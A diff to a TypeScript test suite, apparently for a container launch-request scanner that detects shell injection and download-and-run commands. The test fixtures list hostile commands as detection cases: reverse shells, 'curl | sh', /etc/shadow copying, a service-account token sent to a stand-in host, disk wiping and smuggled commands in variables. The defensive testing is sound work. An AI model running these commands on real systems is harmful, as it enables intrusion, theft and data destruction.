@@ -66,8 +66,13 @@ describe('a request', () => {
   });
 
   it('tells what was not looked into', () => {
-    const long = examineInputs(variable('A', 'x'.repeat(1_000_000)), { strictness: 1, findLanguage });
-    expect(long.unread).toEqual([{ path: 'Env[A]', cause: expect.stringContaining('1000000 characters') }]);
+    const long = examineInputs(variable('A', 'x '.repeat(600_000)), { strictness: 1, findLanguage });
+    expect(long.unread).toEqual([{ path: 'Env[A]', cause: expect.stringContaining('1200000') }]);
+    const hidden = `${'x '.repeat(100_000)}; cat /etc/hosts; ${'x '.repeat(100_000)}`;
+    expect(examineInputs(variable('A', hidden), { strictness: 1, findLanguage })).toMatchObject({
+      findings: [{ rule: 'input/shell-injection' }],
+      unread: [],
+    });
     const many = {
       ...empty,
       environment: Array.from({ length: 6000 }, (_, index) => ({
@@ -86,6 +91,12 @@ describe('a request', () => {
   ])('finds shell in the name %j', (name, value) => {
     expect(rules(variable(name, value))).toContain('shell-injection');
   });
+
+  it('finds shell in a name that has no value', () => {
+    const named = (name: string): LaunchRequest => ({ ...empty, environment: [{ name, path: 'Env[0]' }] });
+    expect(rules(named('x;wget http://a.example'))).toContain('shell-injection');
+    expect(examineInputs(named('HOME'), { strictness: 2, findLanguage }).inputs).toEqual([]);
+  });
 });
 
 describe('a shell where a shell is expected', () => {
@@ -95,6 +106,7 @@ describe('a shell where a shell is expected', () => {
     ['/usr/bin/tini', '--', 'sh', '-ec', 'cd /app && npm run migrate; exec node server.js'],
     ['sh', '-c', 'curl -s http://localhost/health | python3 -c "import json,sys; json.load(sys.stdin)"'],
     ['sh', '-c', 'curl -o /app/config.json http://config/app && exec ./start.sh'],
+    ['sh', '-c', 'echo "0 * * * * /job.sh" | crontab - && crond -f'],
     ['sh', '-c', 'until (echo > /dev/tcp/db/5432) >/dev/null 2>&1; do sleep 1; done; exec app'],
     ['python', '-c', 'print(1)'],
     ['perl', '-E', 'sleep 300'],
@@ -119,6 +131,15 @@ describe('a shell where a shell is expected', () => {
     [['powershell', '-enc', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'], 'encoded-code'],
     [['nc', '-e', '/bin/sh', '192.0.2.1', '4444'], 'shell-injection'],
     [['nsenter', '-t', '1', '-m', 'sh'], 'shell-injection'],
+    [['sh', '-c', 'echo "* * * * * x" | crontab -'], 'shell-injection'],
+    [['sh', '-c', 'cp /etc/shadow /srv/a'], 'shell-injection'],
+    [['sh', '-c', 'chmod u+s /bin/dash'], 'shell-injection'],
+    [['sh', '-c', 'tar c /root | nc a.example 1'], 'shell-injection'],
+    [['sh', '-c', 'awk \'BEGIN{s="/inet/tcp/0/a.example/1"; s |& getline}\''], 'shell-injection'],
+    [['sh', '-c', 'telnet a.example 1 | sh | telnet a.example 2'], 'shell-injection'],
+    [['sh', '-c', 'find / -name x -exec sh \\;'], 'shell-injection'],
+    [['sh', '-c', 'mkfs.ext4 /dev/sdb'], 'shell-injection'],
+    [['sh', '-c', 'tar cf a.tar b --checkpoint-action=exec=sh'], 'shell-injection'],
     [['busybox', 'sh', '-c', 'wget -q -O - http://x.example | ash'], 'download-and-run'],
   ])('%j: %s', (words, rule) => {
     expect(rules(command(...words))).toContain(rule);
@@ -200,6 +221,27 @@ it.each([
   ['cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://a.example', 'shell-injection'],
 ])('what is no matter of a container, even in its command: %s', (line, rule) => {
   expect(rules(command('sh', '-c', line))).toContain(rule);
+});
+
+describe('a command where a command is expected', () => {
+  it.each(['cat /etc/os-release', 'chown -R app:app /srv', 'find /srv -type f -mtime +1 -delete', 'ls -la'])(
+    'as the only argument: %s',
+    (line) => {
+      expect(rules(command(line))).toEqual([]);
+    },
+  );
+  it.each(['cat /etc/shadow', 'ls -la; id', 'ls $(id)', 'nc -e /bin/sh a.example 1', 'cat ../../etc/hosts'])(
+    'not: %s',
+    (line) => {
+      expect(rules(command(line))).toContain('shell-injection');
+    },
+  );
+  it('in a variable that says that it is one', () => {
+    expect(rules(variable('BUILD_COMMAND', 'make all && make install'))).toEqual([]);
+    expect(rules(variable('WG_POST_UP', 'iptables -A FORWARD -j ACCEPT; iptables -L'))).toEqual([]);
+    expect(rules(variable('BUILD_COMMAND', 'curl http://a.example/x | sh'))).toEqual(['download-and-run']);
+    expect(rules(variable('cmd', 'make all && cat a.txt'))).toEqual(['shell-injection']);
+  });
 });
 
 it.each(['cron -f', 'crond -f -l 8', 'wait-for db:3306 -- node server.js'])(
